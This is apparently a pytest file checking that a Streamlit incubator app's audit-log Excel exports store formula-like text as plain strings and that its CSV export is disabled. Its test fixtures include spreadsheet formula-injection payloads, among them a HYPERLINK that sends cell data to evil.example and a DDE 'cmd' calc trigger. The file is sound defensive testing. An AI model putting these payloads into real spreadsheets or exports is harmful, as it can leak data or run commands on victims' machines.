"""The audit page's downloads are .xlsx workbooks in which text stays text: a name, note,
actor or site that looks like a formula opens as the typed text, never as a formula."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook
from streamlit.runtime.media_file_manager import MediaFileManager

from incubator import services
from incubator.access import cli_owner
from incubator.store import Database
from tests.e2e.test_ui import app_db, open_page, sign_in  # noqa: F401  (fixture)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "site": "@SUM(1+1)",
    "actor": "+cmd|' /C calc'!A0",
    "note": "-2+3 钟祥绿野",
}


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, dict[str, Any]]:
    """What each download button would serve, by deferred file id: the data function (called
    when the button is clicked), the file name and the MIME type."""
    seen: dict[str, dict[str, Any]] = {}
    register = MediaFileManager.add_deferred

    def add_deferred(
        self: MediaFileManager,
        data_callable: Callable[[], Any],
        mimetype: str | None,
        coordinates: str,
        file_name: str | None = None,
        **kwargs: Any,
    ) -> str:
        file_id = register(self, data_callable, mimetype, coordinates, file_name, **kwargs)
        seen[file_id] = {"data": data_callable, "file_name": file_name, "mime": mimetype}
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
    return seen


def served(at: Any, key: str, downloads: dict[str, dict[str, Any]]) -> tuple[str, str, bytes]:
    (button,) = [b for b in at.get("download_button") if b.key == key]
    entry = downloads[button.proto.deferred_file_id]
    return entry["file_name"], entry["mime"], entry["data"]()


def test_the_audit_page_offers_xlsx_downloads_where_formula_looking_text_stays_text(
    app_db: Database,  # noqa: F811
    downloads: dict[str, dict[str, Any]],
) -> None:
    services.add_site(app_db, HOSTILE["site"], actor=cli_owner("root"))  # an admin adds it first
    services.admit(app_db, "JM-0666", name=HOSTILE["name"], stage="seed",
                   actor=cli_owner(HOSTILE["actor"]), at=datetime(2024, 2, 1, tzinfo=UTC),
                   site=HOSTILE["site"], sector="biomedicine", note=HOSTILE["note"])  # fmt: skip
    at = open_page(sign_in("admin"), "audit")
    for key, name in [
        ("audit_download", "audit-log.xlsx"),
        ("audit_export", "incubator-events.xlsx"),
    ]:
        file_name, mime, data = served(at, key, downloads)
        assert (file_name, mime) == (name, XLSX), key
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in xml and "<f " not in xml, key
        sheet = load_workbook(io.BytesIO(data)).active
        header = [c.value for c in sheet[1]]
        (row,) = [
            r
            for r in sheet.iter_rows(min_row=2)
            if r[header.index("company_key")].value == "JM-0666"
        ]
        cells = dict(zip(header, row, strict=True))
        for field, column in [("name", "company_name"), ("site", "site"), ("actor", "actor"),
                              ("note", "note")]:  # fmt: skip
            assert cells[column].value == HOSTILE[field], (key, column)
            assert cells[column].data_type == "s", (key, column)
        assert sheet.max_row == 7  # the header, the pipeline's five events and the new one


def test_a_viewer_downloads_the_shown_audit_rows_but_not_the_whole_log(
    app_db: Database,  # noqa: F811
    downloads: dict[str, dict[str, Any]],
) -> None:
    at = open_page(sign_in("viewer"), "audit")
    at.selectbox(key="audit_kind").set_value("advance").run()
    assert "audit_export" not in {b.key for b in at.get("download_button")}
    _, _, data = served(at, "audit_download", downloads)
    sheet = load_workbook(io.BytesIO(data)).active
    assert [[c.value for c in row][1:5] for row in sheet.iter_rows()] == [
        ["company_key", "company_name", "site", "kind"],
        ["JM-0002", "Jade Hill Foods Ltd.", "钟祥", "advance"],
    ]


def test_the_tables_offer_no_csv_download_of_their_own() -> None:
    """Streamlit's table toolbar would download a CSV with every cell as it is (a formula
    included); the app's config turns it off, as `incubator ui` serves it."""
    import tomllib
    from pathlib import Path

    config = Path(__file__).resolve().parents[2] / "ui" / ".streamlit" / "config.toml"
    assert tomllib.loads(config.read_text(encoding="utf-8"))["client"]["disableDataExport"] is True
